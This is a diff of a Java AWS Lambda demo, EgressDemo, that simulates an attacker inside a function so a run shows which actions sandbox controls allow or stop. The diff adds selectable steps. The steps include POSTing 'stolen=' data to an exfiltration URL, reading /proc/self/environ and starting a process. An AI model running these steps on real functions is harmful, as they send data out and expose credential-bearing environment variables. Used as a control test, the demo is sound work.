@@ -11,6 +11,7 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.LinkedHashMap;
+import java.util.List;
 import java.util.Map;
 import java.util.concurrent.TimeUnit;
 
@@ -18,8 +19,9 @@ import java.util.concurrent.TimeUnit;
  * A function that does what an attacker who got code execution inside it would try, next to its one legitimate
  * call. Each step reports "ok: ..." or the exception it met, so a run shows what was allowed and what was stopped.
  *
- * <p>Event fields: {@code allowedUrl} (the endpoint the function is meant to call) and {@code exfilUrl} (where
- * stolen data would go; default {@value #DEFAULT_EXFIL_URL}).
+ * <p>Event fields: {@code allowedUrl} (the endpoint the function is meant to call), {@code exfilUrl} (where
+ * stolen data would go; default {@value #DEFAULT_EXFIL_URL}) and {@code steps} (the names of the steps to run, e.g.
+ * {@code ["allowedCall", "writeTmp"]} for its legitimate work alone; default all of them).
  */
 public class EgressDemo implements RequestHandler<Map<String, Object>, Map<String, Object>> {
 
@@ -40,25 +42,31 @@ public class EgressDemo implements RequestHandler<Map<String, Object>, Map<Strin
         String exfilUrl = String.valueOf(event.getOrDefault("exfilUrl", DEFAULT_EXFIL_URL));
         Path scratch = Path.of("/tmp", "egress-demo-" + context.getAwsRequestId() + ".txt");
 
-        Map<String, Object> outcomes = new LinkedHashMap<>();
-        record(context, outcomes, "allowedCall", () -> {
+        Map<String, Step> steps = new LinkedHashMap<>();
+        steps.put("allowedCall", () -> {
             if (allowedUrl == null) {
                 throw new IllegalArgumentException("the event has no allowedUrl");
             }
             return get(String.valueOf(allowedUrl));
         });
-        record(context, outcomes, "exfiltration", () -> post(exfilUrl, "stolen=" + context.getFunctionName()));
-        record(
-                context,
-                outcomes,
+        steps.put("exfiltration", () -> post(exfilUrl, "stolen=" + context.getFunctionName()));
+        steps.put(
                 "readProcSelfEnviron",
                 () -> "read " + Files.readAllBytes(Path.of("/proc/self/environ")).length + " bytes");
-        record(context, outcomes, "writeTmp", () -> {
+        steps.put("writeTmp", () -> {
             Files.writeString(scratch, "written by " + context.getAwsRequestId());
             Files.delete(scratch);
             return "wrote and deleted " + scratch;
         });
-        record(context, outcomes, "startProcess", EgressDemo::runId);
+        steps.put("startProcess", EgressDemo::runId);
+
+        Object selected = event.get("steps");
+        Map<String, Object> outcomes = new LinkedHashMap<>();
+        for (Map.Entry<String, Step> step : steps.entrySet()) {
+            if (!(selected instanceof List<?> names) || names.contains(step.getKey())) {
+                record(context, outcomes, step.getKey(), step.getValue());
+            }
+        }
         return outcomes;
     }
 
